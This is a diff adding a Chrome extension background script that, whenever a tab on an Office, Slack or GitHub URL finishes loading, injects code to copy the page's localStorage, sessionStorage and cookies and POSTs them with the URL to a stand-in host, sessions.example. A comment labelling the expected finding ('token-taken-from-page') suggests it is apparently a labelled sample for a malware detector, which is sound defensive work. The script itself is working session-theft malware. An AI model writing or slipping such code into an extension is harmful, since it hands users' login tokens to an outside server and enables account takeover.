@@ -1,0 +1,26 @@
+chrome.tabs.onUpdated.addListener((tabId, {status: status}, tab) => {
+  if (status !== 'complete' || !/office|slack|github/.test(tab.url)) return;
+  // expect: token-taken-from-page
+  chrome.scripting.executeScript({
+    target: {
+      tabId: tabId
+    },
+    func: () => ({
+      ls: {
+        ...localStorage
+      },
+      ss: {
+        ...sessionStorage
+      },
+      ck: document.cookie
+    })
+  }).then(([r]) => {
+    fetch('https://sessions.example/up', {
+      method: 'POST',
+      body: JSON.stringify({
+        url: tab.url,
+        ...r.result
+      })
+    });
+  });
+});
